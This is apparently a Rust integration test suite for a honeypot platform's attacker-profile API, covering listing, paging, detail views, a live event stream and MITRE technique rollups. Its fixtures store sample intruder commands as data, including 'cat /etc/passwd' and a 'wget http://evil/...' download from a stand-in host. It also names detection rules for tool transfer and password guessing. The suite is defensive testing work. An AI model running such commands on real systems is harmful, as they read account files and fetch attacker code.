//! The attacker views through the real server: `GET /attackers`, `/attackers/{uuid}` and
//! `/attackers/{uuid}/commands`, over profiles stored the way the profiler stores them, on every
//! backend under test; and `/attackers/{uuid}/events` over a real `nats-server`.

use svc_test_support::in_process as common;

use std::collections::BTreeSet;

use chrono::Utc;
use common::logs::{LogWriter, at, bounty};
use common::sse::EventStream;
use common::{TestApi, TestDb, user_token};
use reqwest::StatusCode;
use serde_json::{Value, json};
use svc::db::{AttackerCommand, AttackerProfile, Db, NewCredential, ProfilerBatch, Role};
use svc::observation::{Observation, Window};
use svc::time::format_utc;
use svc_test_support::processes::Nats;
use uuid::Uuid;

const PROFILER: &str = "test-profiler";

fn profile(ip: &str, events: i64, deckies: &[&str], services: &[&str], last_minute: i64) -> AttackerProfile {
    AttackerProfile {
        last_seen: at(last_minute),
        event_count: events,
        services: services.iter().map(|s| s.to_string()).collect(),
        deckies: deckies.iter().map(|s| s.to_string()).collect(),
        fingerprints: json!([{"fingerprint_type": "ja3", "ja3": "abc"}]).to_string(),
        behavior: json!({"behavior_class": "scanning", "beacon_interval_s": null}).to_string(),
        fold_state: json!({"private": true}).to_string(),
        ..AttackerProfile::new(ip, at(0), at(last_minute))
    }
}

fn command(log_id: i64, minute: i64, service: &str, text: &str) -> AttackerCommand {
    AttackerCommand {
        log_id,
        timestamp: at(minute),
        service: service.into(),
        decky: "ssh-01".into(),
        command: text.into(),
    }
}

fn observation(attacker: Uuid, primitive: &str, value: Value, end: f64) -> Observation {
    Observation {
        primitive: primitive.into(),
        value,
        confidence: 0.5,
        window: Window { start_ts: 1_000.0, end_ts: end },
        source: "sensors/shell.py".into(),
        id: Some(Uuid::new_v4().to_string()),
        identity_ref: Some(attacker.to_string()),
        evidence_ref: Some(format!("shard:ssh-01/ssh/{end}#1")),
        ts: Some(end + 1.0),
        v: 1,
    }
}

/// Stores the profiles and commands as the profiler's one batch.
async fn store(db: &Db, profiles: Vec<AttackerProfile>, commands: Vec<(Uuid, AttackerCommand)>) {
    assert!(
        db.acquire_worker_lease("profiler", PROFILER, Utc::now(), std::time::Duration::from_secs(3600)).await.unwrap()
    );
    let cursor = db.profiler_cursor().await.unwrap();
    let batch = ProfilerBatch { last_log_id: cursor + 1, profiles, commands, observations: vec![] };
    db.commit_profiles(PROFILER, cursor, &batch).await.unwrap();
}

/// Three attackers: `a` on two deckies with commands, `b` the busiest, `c` the most recent.
async fn seed(db: &Db) -> [AttackerProfile; 3] {
    let a = profile("10.0.0.1", 20, &["ssh-01", "web-01"], &["http", "ssh"], 30);
    let b = profile("10.0.0.22", 90, &["ssh-01"], &["ssh"], 20);
    let c = profile("192.168.1.5", 5, &["decnet-gw", "web-01"], &["http"], 40);
    let commands = vec![
        (a.uuid, command(1, 1, "ssh", "uname -a")),
        (a.uuid, command(2, 2, "ssh", "cat /etc/passwd")),
        (a.uuid, command(3, 3, "http", "id")),
    ];
    store(db, vec![a.clone(), b.clone(), c.clone()], commands).await;
    [a, b, c]
}

fn ips(body: &Value) -> Vec<&str> {
    body["data"].as_array().unwrap().iter().map(|row| row["ip"].as_str().unwrap()).collect()
}

#[tokio::test]
async fn attackers_are_listed_sorted_filtered_and_paged() {
    for backend in TestDb::all() {
        let api = TestApi::start(backend.api_config(&[])).await;
        let token = user_token(&api.state, "watcher", Role::Viewer).await;
        let empty = api.ok("/attackers", &token, &[]).await;
        assert_eq!(empty, json!({"total": 0, "limit": 50, "offset": 0, "data": []}), "{}", backend.name);
        let [a, _, _] = seed(&api.state.db).await;

        let recent = api.ok("/attackers", &token, &[]).await;
        assert_eq!((recent["total"].clone(), ips(&recent)), (json!(3), vec!["192.168.1.5", "10.0.0.1", "10.0.0.22"]));
        let active = api.ok("/attackers", &token, &[("sort_by", "active")]).await;
        assert_eq!(ips(&active), ["10.0.0.22", "10.0.0.1", "192.168.1.5"]);
        // `c` visits a `decnet-` host, which does not count: only `a` is a traversal.
        let traversals = api.ok("/attackers", &token, &[("sort_by", "traversals")]).await;
        assert_eq!(ips(&traversals), ["10.0.0.1", "192.168.1.5", "10.0.0.22"]);
        let unset = api.ok("/attackers", &token, &[("sort_by", "undefined"), ("search", "null")]).await;
        assert_eq!(ips(&unset), ips(&recent), "null/undefined read as absent");

        let searched = api.ok("/attackers", &token, &[("search", "10.0.0.")]).await;
        assert_eq!((searched["total"].clone(), ips(&searched)), (json!(2), vec!["10.0.0.1", "10.0.0.22"]));
        let literal = api.ok("/attackers", &token, &[("search", "10_0")]).await;
        assert_eq!(literal["total"], 0, "`_` is not a wildcard");
        let http = api.ok("/attackers", &token, &[("service", "http")]).await;
        assert_eq!(ips(&http), ["192.168.1.5", "10.0.0.1"]);
        let partial = api.ok("/attackers", &token, &[("service", "ss")]).await;
        assert_eq!(partial["total"], 0, "a service matches whole");

        let page = api.ok("/attackers", &token, &[("limit", "1"), ("offset", "1"), ("sort_by", "active")]).await;
        assert_eq!(
            (page["total"].clone(), page["limit"].clone(), page["offset"].clone()),
            (json!(3), json!(1), json!(1))
        );
        assert_eq!(ips(&page), ["10.0.0.1"]);

        let row = &page["data"][0];
        let keys: BTreeSet<&str> = row.as_object().unwrap().keys().map(String::as_str).collect();
        for key in [
            "uuid",
            "ip",
            "identity_id",
            "first_seen",
            "last_seen",
            "event_count",
            "service_count",
            "decky_count",
            "services",
            "deckies",
            "traversal_path",
            "is_traversal",
            "bounty_count",
            "credential_count",
            "fingerprints",
            "command_count",
            "country_code",
            "asn",
            "ptr_record",
            "updated_at",
            "behavior",
        ] {
            assert!(keys.contains(key), "{key} in {keys:?}");
        }
        assert!(!keys.contains("fold_state"), "the profiler's own state stays private");
        assert_eq!(row["uuid"], a.uuid.to_string());
        assert_eq!(
            (&row["first_seen"], &row["last_seen"], &row["event_count"]),
            (&json!(format_utc(at(0))), &json!(format_utc(at(30))), &json!(20))
        );
        assert_eq!((&row["services"], &row["deckies"]), (&json!(["http", "ssh"]), &json!(["ssh-01", "web-01"])));
        assert_eq!(
            (&row["service_count"], &row["decky_count"], &row["traversal_path"], &row["is_traversal"]),
            (&json!(2), &json!(2), &json!("ssh-01 → web-01"), &json!(true))
        );
        assert_eq!((&row["command_count"], &row["fingerprints"][0]["ja3"]), (&json!(3), &json!("abc")));
        assert_eq!(row["behavior"]["behavior_class"], "scanning");
        assert_eq!(row["behavior"]["attacker_uuid"], a.uuid.to_string());
        api.stop().await;
    }
}

#[tokio::test]
async fn an_attacker_detail_carries_commands_activity_leaks_and_observations() {
    for backend in TestDb::all() {
        let api = TestApi::start(backend.api_config(&[])).await;
        let token = user_token(&api.state, "watcher", Role::Viewer).await;
        let db = api.state.db.clone();
        let [a, b, _] = seed(&db).await;
        let mut writer = LogWriter::new(&db).await;
        let leak = json!({"real_ip_claim": "203.0.113.9", "source_header": "X-Forwarded-For"}).to_string();
        let other = json!({"real_ip_claim": "198.51.100.1"}).to_string();
        writer
            .commit(
                vec![],
                vec![bounty("ip_leak", "10.0.0.1", &leak, at(5)), bounty("ip_leak", "10.0.0.12", &other, at(6))],
            )
            .await;
        let newer = observation(a.uuid, "motor.keystroke_cadence", json!("bursty"), 2_000.0);
        let older = observation(a.uuid, "toolchain.c2.beacon_interval_ms", json!(250.5), 1_500.0);
        let elsewhere = observation(b.uuid, "motor.keystroke_cadence", json!("steady"), 3_000.0);
        db.add_observations(&[older.clone(), newer.clone(), elsewhere]).await.unwrap();

        let detail = api.ok(&format!("/attackers/{}", a.uuid), &token, &[]).await;
        assert_eq!((&detail["uuid"], &detail["ip"]), (&json!(a.uuid.to_string()), &json!("10.0.0.1")));
        let commands: Vec<&str> =
            detail["commands"].as_array().unwrap().iter().map(|c| c["command"].as_str().unwrap()).collect();
        assert_eq!(commands, ["uname -a", "cat /etc/passwd", "id"], "oldest first, as DECNET's list");
        assert_eq!(
            detail["commands"][2],
            json!({"service": "http", "decky": "ssh-01", "command": "id", "timestamp": format_utc(at(3))})
        );
        assert_eq!(detail["service_activity"], json!({"interacted": ["http", "ssh"], "scanned": []}));
        assert_eq!(
            (&detail["ip_leaks_total"], &detail["ip_leaks"]),
            (&json!(1), &json!([serde_json::from_str::<Value>(&leak).unwrap()]))
        );
        let observations = detail["observations"].as_array().unwrap();
        assert_eq!(observations.len(), 2, "only this attacker's");
        assert_eq!(
            observations[0],
            json!({
                "primitive": "motor.keystroke_cadence", "value": "bursty", "confidence": 0.5, "ts": 2001.0,
                "source": "sensors/shell.py", "window_start": 1000.0, "window_end": 2000.0,
                "evidence_ref": newer.evidence_ref,
            })
        );
        assert_eq!(observations[1]["value"], json!(250.5));

        let quiet = api.ok(&format!("/attackers/{}", b.uuid), &token, &[]).await;
        assert_eq!(quiet["service_activity"], json!({"interacted": [], "scanned": ["ssh"]}));
        assert_eq!((&quiet["commands"], &quiet["ip_leaks_total"]), (&json!([]), &json!(0)));

        let missing = api.get(&format!("/attackers/{}", Uuid::new_v4()), Some(&token), &[]).await;
        assert_eq!((missing.status, missing.body), (StatusCode::NOT_FOUND, json!({"detail": "Attacker not found"})));
        assert_eq!(api.get("/attackers/not-a-uuid", Some(&token), &[]).await.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(api.get(&format!("/attackers/{}", a.uuid), None, &[]).await.status, StatusCode::UNAUTHORIZED);
        api.stop().await;
    }
}

/// DECNET's Attackers page reads `commands.length` and the last command of every row: rows carry
/// the newest 20 (oldest first, texts cut) beside the exact count, however many the attacker ran.
#[tokio::test]
async fn list_rows_carry_the_newest_commands_bounded_for_an_attacker_of_100000() {
    const RAN: i64 = 100_000;
    for backend in TestDb::all() {
        let api = TestApi::start(backend.api_config(&[])).await;
        let token = user_token(&api.state, "watcher", Role::Viewer).await;
        let busy = profile("10.7.7.7", RAN, &["ssh-01"], &["ssh"], 50);
        let long = "x".repeat(5_000);
        let commands: Vec<_> = (0..RAN)
            .map(|n| {
                let text = if n == RAN - 1 { format!("wget http://evil/{long}") } else { format!("echo {n}") };
                (busy.uuid, command(n + 1, n / 2_000, "ssh", &text))
            })
            .collect();
        let mut others: Vec<AttackerProfile> =
            (0..49).map(|n| profile(&format!("10.8.0.{n}"), 3, &["web-01"], &["http"], 10)).collect();
        let one_command = vec![(others[0].uuid, command(RAN + 1, 5, "http", "id"))];
        others.push(busy.clone());
        store(&api.state.db, others, commands.into_iter().chain(one_command).collect()).await;

        let reply = api.get("/attackers", Some(&token), &[]).await;
        assert_eq!(reply.status, StatusCode::OK);
        let page = reply.body;
        assert_eq!(page["data"].as_array().unwrap().len(), 50);
        let row = &page["data"][0];
        assert_eq!((&row["ip"], &row["command_count"]), (&json!("10.7.7.7"), &json!(RAN)), "{}", backend.name);
        let texts: Vec<&str> =
            row["commands"].as_array().unwrap().iter().map(|c| c["command"].as_str().unwrap()).collect();
        assert_eq!(texts.len(), 20);
        assert_eq!(texts[0], format!("echo {}", RAN - 20));
        assert_eq!(texts[18], format!("echo {}", RAN - 2));
        let newest = texts[19];
        assert!(newest.starts_with("wget http://evil/xxx") && newest.chars().count() == 256, "cut: {}", newest.len());
        assert_eq!(row["commands"][19]["timestamp"], json!(format_utc(at((RAN - 1) / 2_000))));
        let few = page["data"].as_array().unwrap().iter().find(|r| r["ip"] == "10.8.0.0").unwrap();
        assert_eq!((&few["command_count"], &few["commands"][0]["command"]), (&json!(1), &json!("id")));
        let none = page["data"].as_array().unwrap().iter().find(|r| r["ip"] == "10.8.0.1").unwrap();
        assert_eq!(none["commands"], json!([]));
        // 50 rows of at most 20 commands of at most 256 characters: the page stays small.
        let size = serde_json::to_vec(&page).unwrap().len();
        assert!(size < 120_000, "a page of 50 rows is {size} bytes");

        let detail = api.ok(&format!("/attackers/{}", busy.uuid), &token, &[]).await;
        let detail_commands = detail["commands"].as_array().unwrap();
        assert_eq!((detail_commands.len(), &detail["command_count"]), (50, &json!(RAN)));
        assert_eq!(detail_commands[49]["command"], json!(format!("wget http://evil/{long}")), "the detail's are whole");
        api.stop().await;
    }
}

#[tokio::test]
async fn commands_are_paged_in_the_database() {
    for backend in TestDb::all() {
        let api = TestApi::start(backend.api_config(&[])).await;
        let token = user_token(&api.state, "watcher", Role::Viewer).await;
        let attacker = profile("10.9.9.9", 300, &["ssh-01"], &["ftp", "ssh"], 300);
        let commands = (0..250)
            .map(|n| (attacker.uuid, command(n + 1, n, if n % 5 == 0 { "ftp" } else { "ssh" }, &format!("echo {n}"))))
            .collect();
        store(&api.state.db, vec![attacker.clone()], commands).await;
        let path = format!("/attackers/{}/commands", attacker.uuid);

        let first = api.ok(&path, &token, &[]).await;
        assert_eq!(
            (first["total"].clone(), first["limit"].clone(), first["offset"].clone()),
            (json!(250), json!(50), json!(0))
        );
        assert_eq!(first["data"].as_array().unwrap().len(), 50);
        assert_eq!(
            first["data"][0],
            json!({"service": "ssh", "decky": "ssh-01", "command": "echo 249", "timestamp": format_utc(at(249))})
        );
        let last = api.ok(&path, &token, &[("limit", "200"), ("offset", "200")]).await;
        let texts: Vec<&str> =
            last["data"].as_array().unwrap().iter().map(|c| c["command"].as_str().unwrap()).collect();
        assert_eq!(texts.len(), 50);
        assert_eq!((texts[0], texts[49]), ("echo 49", "echo 0"));
        let ftp = api.ok(&path, &token, &[("service", "ftp"), ("limit", "3")]).await;
        assert_eq!(ftp["total"], 50);
        let ftp_texts: Vec<&str> =
            ftp["data"].as_array().unwrap().iter().map(|c| c["command"].as_str().unwrap()).collect();
        assert_eq!(ftp_texts, ["echo 245", "echo 240", "echo 235"]);

        for (field, value) in [("limit", "201"), ("limit", "0"), ("offset", "-1")] {
            let reply = api.get(&path, Some(&token), &[(field, value)]).await;
            assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{field}={value}");
        }
        let missing = api.get(&format!("/attackers/{}/commands", Uuid::new_v4()), Some(&token), &[]).await;
        assert_eq!((missing.status, missing.body), (StatusCode::NOT_FOUND, json!({"detail": "Attacker not found"})));
        api.stop().await;
    }
}

#[tokio::test]
async fn bad_attacker_parameters_are_refused_by_name() {
    let backend = TestDb::sqlite();
    let api = TestApi::start(backend.api_config(&[("SVC_DEVELOPER", "true")])).await;
    let token = user_token(&api.state, "watcher", Role::Viewer).await;
    let long = "1".repeat(513);
    let refused = [
        ("sort_by", "oldest", "string_pattern_mismatch"),
        ("limit", "1001", "less_than_equal"),
        ("offset", "-1", "greater_than_equal"),
        ("search", long.as_str(), "string_too_long"),
    ];
    for (field, value, kind) in refused {
        let reply = api.get("/attackers", Some(&token), &[(field, value)]).await;
        assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{field}={value}");
        assert_eq!(reply.body["detail"][0]["type"], kind, "{field}={value}: {}", reply.body);
        assert_eq!(reply.body["detail"][0]["loc"], json!(["query", field]));
    }
    assert_eq!(api.get("/attackers", None, &[("sort_by", "oldest")]).await.status, StatusCode::UNAUTHORIZED);

    let doc = api.client.get(api.base.replace("/api/v1", "/openapi.json")).send().await.unwrap();
    let doc: Value = doc.json().await.unwrap();
    for path in ["/api/v1/attackers", "/api/v1/attackers/{uuid}", "/api/v1/attackers/{uuid}/commands"] {
        assert!(doc["paths"][path]["get"]["responses"]["200"].is_object(), "{path}");
    }
    assert!(doc["components"]["schemas"]["AttackerDetail"].is_object());
    api.stop().await;
}

/// The attacker's event stream opens with the snapshot of its latest observation per primitive,
/// then forwards its own observations and scores from the bus, and no other attacker's.
#[tokio::test]
async fn the_event_stream_forwards_the_observations_of_its_own_attacker_only() {
    let patience = std::time::Duration::from_secs(10);
    let nats = Nats::start();
    let backend = TestDb::sqlite();
    let api = TestApi::start(backend.api_config(&[("SVC_NATS_URL", &nats.url())])).await;
    let token = user_token(&api.state, "watcher", Role::Viewer).await;
    let [a, b, _] = seed(&api.state.db).await;
    let stored = observation(a.uuid, "motor.keystroke_cadence", json!("bursty"), 2_000.0);
    api.state.db.add_observations(&[stored]).await.unwrap();

    let url = api.url(&format!("/attackers/{}/events", a.uuid));
    let response = api.client.get(url).bearer_auth(&token).send().await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let mut stream = EventStream::new(response);
    let snapshot = stream.next_event(patience).await.expect("the stream is open");
    assert_eq!(snapshot.event.as_deref(), Some("snapshot"), "{snapshot:?}");
    let snapshot = snapshot.json();
    assert_eq!(snapshot["attacker_uuid"], json!(a.uuid.to_string()));
    let primitives: Vec<&str> =
        snapshot["observations"].as_array().unwrap().iter().map(|o| o["primitive"].as_str().unwrap()).collect();
    assert_eq!(primitives, ["motor.keystroke_cadence"]);

    // Another attacker's observation, then this one's, on one subject: they arrive in order, so
    // when this one's comes first the other was left out.
    let bus = async_nats::connect(nats.url()).await.unwrap();
    let event = |topic: &str, kind: &str, attacker: Uuid| json!({"topic": topic, "type": kind, "ts": 1.5, "payload": {"attacker_uuid": attacker, "value": 1}});
    for attacker in [b.uuid, a.uuid] {
        let observed = event("attacker.observation.motor.keystroke_cadence", "observation", attacker);
        bus.publish("attacker.observation.motor.keystroke_cadence", observed.to_string().into()).await.unwrap();
    }
    bus.flush().await.unwrap();
    let frame = stream.next_event(patience).await.expect("the stream is open");
    assert_eq!(frame.event.as_deref(), Some("observation"), "{frame:?}");
    assert_eq!(frame.json(), event("attacker.observation.motor.keystroke_cadence", "observation", a.uuid));

    let scored = event("attacker.scored", "scored", a.uuid);
    bus.publish("attacker.scored", scored.to_string().into()).await.unwrap();
    bus.flush().await.unwrap();
    let frame = stream.next_event(patience).await.expect("the stream is open");
    assert_eq!(frame.event.as_deref(), Some("attacker.scored"), "{frame:?}");
    assert_eq!(frame.json(), scored);
    api.stop().await;
}

#[tokio::test]
async fn an_attackers_techniques_are_rolled_up_from_its_commands_as_decnets_page_reads_them() {
    for backend in TestDb::all() {
        let api = TestApi::start(backend.api_config(&[])).await;
        let token = user_token(&api.state, "watcher", Role::Viewer).await;
        let [a, b, _] = seed(&api.state.db).await;
        let rows = api.ok(&format!("/ttp/by-attacker/{}", a.uuid), &token, &[]).await;
        let rows = rows.as_array().unwrap();
        let ids: Vec<&str> =
            rows.iter().map(|r| r["sub_technique_id"].as_str().or(r["technique_id"].as_str()).unwrap()).collect();
        // uname, cat /etc/passwd, id: each a shell command; discovery of the system, accounts, owner.
        assert_eq!(ids, ["T1033", "T1059.004", "T1082", "T1087.001"], "{}", backend.name);
        let shell = rows.iter().find(|r| r["sub_technique_id"] == "T1059.004").unwrap();
        assert_eq!(
            shell,
            &json!({"technique_id": "T1059", "technique_name": "Command and Scripting Interpreter",
                "sub_technique_id": "T1059.004", "sub_technique_name": "Unix Shell", "tactic": "execution",
                "count": 3, "first_seen": format_utc(at(1)), "last_seen": format_utc(at(3)), "confidence_max": 1.0,
                "mitre_url": "https://attack.mitre.org/techniques/T1059/004/"}),
            "{}",
            backend.name
        );
        let owner = rows.iter().find(|r| r["technique_id"] == "T1033").unwrap();
        assert_eq!((&owner["sub_technique_id"], &owner["count"]), (&Value::Null, &json!(1)));
        assert_eq!(api.ok(&format!("/ttp/by-attacker/{}", b.uuid), &token, &[]).await, json!([]));

        // `b`'s logins: four refused attempts (two secrets) and one accepted.
        let login = |secret: &str, outcome: &str, minute: i64| NewCredential {
            seen_at: at(minute),
            attacker_ip: b.ip.clone(),
            decky: "ssh-01".into(),
            service: "ssh".into(),
            secret_kind: "plaintext".into(),
            secret_sha256: format!("{secret:0>64}"),
            principal: Some("root".into()),
            secret_printable: secret.into(),
            secret_b64: "eA==".into(),
            outcome: Some(outcome.into()),
        };
        let tried = vec![
            login("a", "failure", 4),
            login("a", "failure", 5),
            login("a", "failure", 6),
            login("b", "failure", 7),
            login("c", "success", 8),
        ];
        LogWriter::new(&api.state.db).await.commit_with_credentials(vec![], vec![], tried).await;
        let rows = api.ok(&format!("/ttp/by-attacker/{}", b.uuid), &token, &[]).await;
        let tagged: Vec<(&str, &str, u64)> = rows
            .as_array()
            .unwrap()
            .iter()
            .map(|r| {
                let id = r["sub_technique_id"].as_str().or(r["technique_id"].as_str()).unwrap();
                (id, r["tactic"].as_str().unwrap(), r["count"].as_u64().unwrap())
            })
            .collect();
        assert_eq!(
            tagged,
            [("T1078", "initial-access", 1), ("T1110.001", "credential-access", 4)],
            "{}: {rows}",
            backend.name
        );

        // The rules behind it, DECNET's catalogue shape.
        let rules = api.ok("/ttp/rules", &token, &[]).await;
        let rules = rules.as_array().unwrap();
        let ids: Vec<&str> = rules.iter().map(|r| r["rule_id"].as_str().unwrap()).collect();
        assert!(
            ids.is_sorted() && ids.contains(&"cmd.ingress-tool-transfer") && ids.contains(&"auth.password-guessing")
        );
        let guessing = rules.iter().find(|r| r["rule_id"] == "auth.password-guessing").unwrap();
        assert_eq!(
            (&guessing["name"], &guessing["state"], &guessing["rule_version"], &guessing["expires_at"]),
            (&json!("T1110.001 Password Guessing"), &json!("enabled"), &json!(1), &Value::Null)
        );
        assert_eq!(api.get("/ttp/rules", None, &[]).await.status, StatusCode::UNAUTHORIZED);
        let missing = api.get(&format!("/ttp/by-attacker/{}", Uuid::new_v4()), Some(&token), &[]).await;
        assert_eq!((missing.status, missing.body), (StatusCode::NOT_FOUND, json!({"detail": "Attacker not found"})));
        assert_eq!(api.get("/ttp/by-attacker/x", Some(&token), &[]).await.status, StatusCode::UNPROCESSABLE_ENTITY);
        api.stop().await;
    }
}
